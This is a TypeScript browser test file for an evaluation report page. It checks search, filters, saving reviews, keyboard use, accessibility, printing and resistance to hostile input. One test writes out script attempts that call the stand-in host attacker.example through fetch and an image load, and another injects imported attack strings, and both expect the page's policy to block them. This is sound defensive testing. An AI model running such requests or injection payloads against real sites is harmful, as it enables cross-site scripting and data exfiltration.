// The report page in a real browser: what an editor does with it, and what a hostile run cannot do to it.
import { readFileSync } from 'node:fs'
import type { Page } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import { readReviews } from '../../src/dataset/reviews.ts'
import type { PageTurn } from '../../src/domain/page.ts'
import { findChromium } from '../support/browser.ts'
import { PAGE_ATTACKS } from '../support/page-attacks.ts'
import { makePageChange, makePageTurn, manyPageTurns } from '../support/page-turns.ts'
import { writePage } from '../support/report-page.ts'
import { temporaryFolder } from '../support/temporary.ts'
import { faultsOf, useBrowser, type WatchedBrowser } from '../support/watched-browser.ts'

const chromium = findChromium()
const folder = temporaryFolder()

test('there is a browser to test the page in', ({ skip }) => {
  if (chromium === undefined && process.env['CI'] === undefined)
    skip('no Chromium was found (CHROMIUM_PATH names one): the report page is not tested in a browser')
  expect(chromium).toBeDefined()
})

const TURNS: readonly PageTurn[] = [
  makePageTurn('vpn-1', {
    thread: 'vpn',
    message: 'How do I reach the VPN?',
    answer: 'Open the client.',
    tags: ['vpn'],
    passed: true,
  }),
  makePageTurn('vpn-2', {
    thread: 'vpn',
    turn: 2,
    message: 'And at home?',
    answer: 'Only with a token.',
    tags: ['vpn'],
    source: 'MODEL',
    grounded: false,
    passed: false,
    failures: ['does not contain "client"'],
  }),
  makePageTurn('printer', {
    message: 'The printer is jammed',
    answer: 'Call the desk.',
    tags: ['print'],
    flaky: true,
  }),
  makePageTurn('badge', {
    message: 'I lost my badge',
    outcome: 'timeout',
    answer: null,
    grounded: null,
    source: '(error)',
    error: 'took too long',
  }),
  makePageTurn('pin & pin', {
    message: 'Forgot my PIN',
    answer: 'Ask for 14 days.',
    change: makePageChange('Ask for 30 days.', { kinds: ['groundingGained', 'factsChanged'] }),
  }),
]

describe.skipIf(chromium === undefined)('the report page', () => {
  const watched = useBrowser(chromium)

  const open: WatchedBrowser['open'] = async (...page) => watched.open(...page)
  const shown = async (page: Page): Promise<string[]> => page.locator('.toggle').allInnerTexts()
  const quietly = (): void => expect(watched.said()).toEqual([])

  const address = writePage(folder, 'run', {
    turns: TURNS,
    names: { baseline: 'nightly-10', candidate: 'nightly-11' },
  })

  test('search and filters show what they take, and the address can be shared', async () => {
    const page = await open(address)
    expect(await shown(page)).toHaveLength(4)
    await page.getByLabel('Search', { exact: true }).fill('TOKEN')
    await page.getByText('1 question of 5, in 1 conversation.').waitFor()
    expect(await shown(page)).toEqual(['And at home?'])
    await page.getByRole('button', { name: 'Clear filters' }).click()
    await page.getByLabel('Show', { exact: true }).selectOption({ label: 'Failed (1)' })
    await page.getByText('1 question of 5, in 1 conversation.').waitFor()
    const shared = await open(page.url())
    expect(await shown(shared)).toEqual(['And at home?'])
    expect(await shared.getByLabel('Show', { exact: true }).inputValue()).toBe('=failed')
    await page.getByLabel('Order').selectOption('worst')
    expect(page.url()).toContain('sort=worst')
    quietly()
  })

  test('a link leads to its question, whatever it is called, and says where there is none', async () => {
    const page = await open(`${address}#q=${encodeURIComponent('pin & pin')}`)
    const turn = page.locator('.turn:focus')
    await turn.waitFor()
    expect(await turn.locator('del').allInnerTexts()).toEqual(['30'])
    expect(await turn.locator('ins').allInnerTexts()).toEqual(['14'])
    await page.goto(`${address}#q=nobody`)
    await page.getByText('The question "nobody" is not in this page.').waitFor()
    await page.getByRole('link', { name: 'Skip' }).press('Enter')
    expect(await page.locator('h2:focus').count()).toBe(1)
    await page.goto(`${address}#filter=list:gap&tag:vpn`)
    await page.getByText('1 question of 5').waitFor()
    quietly()
  })

  test('marks are saved as a file that --reviews reads, and outlive a reload', async () => {
    const page = await open(address, { acceptDownloads: true })
    await page.getByRole('button', { name: 'Open all shown' }).click()
    await page.locator('#turn-1').getByLabel('Poor').check()
    await page.locator('#turn-1').getByLabel('Note').fill('=the token\nis gone')
    await page.locator('#turn-2').getByLabel('Good').check()
    await page.reload()
    expect(watched.askedToLeave()).toBe(1)
    await page.getByText('2 reviews are not saved yet.').waitFor()
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Save reviews' }).click(),
    ])
    await page.getByText('2 reviews saved.').waitFor()
    expect(file.suggestedFilename()).toBe('reviews.csv')
    const reading = await readReviews(await file.path())
    expect(reading.faults).toEqual([])
    expect(reading.reviews).toEqual([
      { questionId: 'vpn-2', answer: 'Only with a token.', review: 'poor', note: '=the token\nis gone' },
      { questionId: 'printer', answer: 'Call the desk.', review: 'good', note: '' },
    ])
    quietly()
  })

  test('what is filtered is downloaded', async () => {
    const page = await open(`${address}#filter=tag:vpn`, { acceptDownloads: true })
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download these' }).click(),
    ])
    const text = readFileSync(await file.path(), 'utf8')
    expect(text.split('\n').map((line) => line.split(',')[0])).toEqual(['\ufeffid', 'vpn-1', 'vpn-2', ''])
    quietly()
  })

  test('the keyboard alone is enough', async () => {
    const page = await open(address)
    await page.keyboard.press('/')
    // In one go: letter by letter, on a slow machine, the page may search for a part first.
    await page.keyboard.insertText('vpn token')
    await page.getByText('1 question of 5').waitFor()
    await page.keyboard.press('Escape')
    await page.keyboard.press('j')
    await page.keyboard.press('Enter')
    await page.locator('.turn').first().waitFor()
    await page.keyboard.press('n')
    await page.keyboard.press('n')
    await page.keyboard.press('3')
    await page.getByText('1 review is not saved yet.').waitFor()
    expect(await page.locator('#turn-1').getByLabel('Poor').isChecked()).toBe(true)
    await page.keyboard.press('o')
    expect(await page.locator('.turn').count()).toBe(0)
    expect(await page.locator('.toggle:focus').count()).toBe(1)
    quietly()
  })

  test('who leaves the search before it was made keeps the place where they went', async () => {
    const page = await open(address)
    await page.keyboard.press('/')
    await page.keyboard.insertText('vpn token')
    await page.keyboard.press('Escape')
    await page.keyboard.press('j')
    await page.getByText('1 question of 5').waitFor()
    expect(await page.locator('.toggle:focus').count()).toBe(1)
    expect(await page.locator('#search').inputValue()).toBe('vpn token')
    quietly()
  })

  test('a hostile run is shown and never run: no request, no dialog, no error', async () => {
    const turns = PAGE_ATTACKS.map((text, place) =>
      makePageTurn(`${text.slice(0, 60)}${place}`, {
        thread: text.slice(0, 90) + place,
        message: text,
        answer: text,
        tags: [text.slice(0, 90)],
        source: text.slice(0, 90),
        failures: [text.slice(0, 200)],
        conversationId: text.slice(0, 90),
        review: { state: 'new', word: null, note: text.slice(0, 90) },
        change: makePageChange(`${text.slice(0, 500)} before`, {
          kinds: ['otherAnswer'],
          source: text.slice(0, 50),
        }),
      }),
    )
    const hostile = writePage(folder, 'hostile', {
      turns,
      title: PAGE_ATTACKS.slice(0, 7).join(' '),
      names: { candidate: PAGE_ATTACKS[0] ?? '', baseline: PAGE_ATTACKS[1] ?? '' },
    })
    const page = await open(hostile)
    await page.getByRole('button', { name: 'Open all shown' }).click()
    await page
      .locator('.turn')
      .nth(PAGE_ATTACKS.length - 1)
      .waitFor()
    await page.getByLabel('Search', { exact: true }).fill('onerror')
    await page.locator('.sign', { hasText: 'U+202E' }).first().waitFor({ state: 'detached' })
    await page.getByRole('button', { name: 'Clear filters' }).click()
    await page.getByLabel('Tag', { exact: true }).selectOption({ index: 3 })
    await page.getByRole('button', { name: 'Open all shown' }).click()
    await page.locator('.turn').first().waitFor()
    await page.goto(`${hostile}#q=${encodeURIComponent(PAGE_ATTACKS[0] ?? '')}`)
    const markup = page.locator('img, iframe, object, embed, base, link, svg, body style, a:not([href^="#"])')
    expect(await markup.evaluateAll((found) => found.map((one) => one.outerHTML.slice(0, 99)))).toEqual([])
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
    quietly()
  })

  test('the policy holds: neither markup nor a request of a script gets through', async () => {
    const page = await open(address)
    const tries = [
      "fetch('https://attacker.example/')",
      "new Promise((done, fail) => { const image = new Image(); image.onerror = () => fail(new Error('blocked')); image.src = 'https://attacker.example/x.png' })",
      "document.body.innerHTML = '<p>x</p>'",
      "new Promise((done, fail) => { globalThis.ran = fail; const script = document.createElement('script'); script.text = 'ran()'; document.body.append(script) })",
    ]
    for (const attempt of tries) await expect(page.evaluate(attempt), attempt).rejects.toThrow()
    expect(watched.said().filter((line) => line.startsWith('dialog'))).toEqual([])
  })

  test('axe finds nothing, in both colour schemes', async () => {
    for (const colorScheme of ['light', 'dark'] as const) {
      const page = await open(address, { bypassCSP: true, colorScheme })
      await page.getByRole('button', { name: 'Open all shown' }).click()
      await page.locator('.turn').nth(4).waitFor()
      await page.locator('#turn-0').getByLabel('Good').check()
      await page.getByText('Keyboard', { exact: true }).click()
      const found = await faultsOf(page)
      expect(found, colorScheme).toEqual([])
    }
    watched.said()
  })

  test('a narrow screen needs no sideways scrolling; paper has text and no controls', async () => {
    const page = await open(`${address}#filter=tag:vpn`, { viewport: { width: 360, height: 740 } })
    await page.getByRole('button', { name: 'Open all shown' }).click()
    await page.locator('.turn').first().waitFor()
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(360)
    await page.getByRole('button', { name: 'Close all' }).click()
    await page.emulateMedia({ media: 'print' })
    await page.evaluate("dispatchEvent(new Event('beforeprint'))")
    expect(await page.getByText('Only some questions are shown: Tag: vpn.').isVisible()).toBe(true)
    expect(await page.getByText('Only with a token.').isVisible()).toBe(true)
    expect(await page.locator('select:visible, input:visible, textarea:visible').count()).toBe(0)
    await page.evaluate("dispatchEvent(new Event('afterprint'))")
    expect(await page.locator('.turn').count()).toBe(0)
    quietly()
  })

  test('a page that could not hold all says what it left out, and that what matters is here', async () => {
    const turns = [...TURNS, ...manyPageTurns(30)]
    const limits = { turns: 30, units: 1_000_000, ordinaryShare: 0.5 }
    const page = await open(writePage(folder, 'full', { turns, limits }))
    expect(await page.locator('.note-box:visible').innerText()).toMatch(
      /^\d+ turns are not in this page, which would be too large\. What changed, failed, .* is all here/,
    )
    quietly()
  })
})
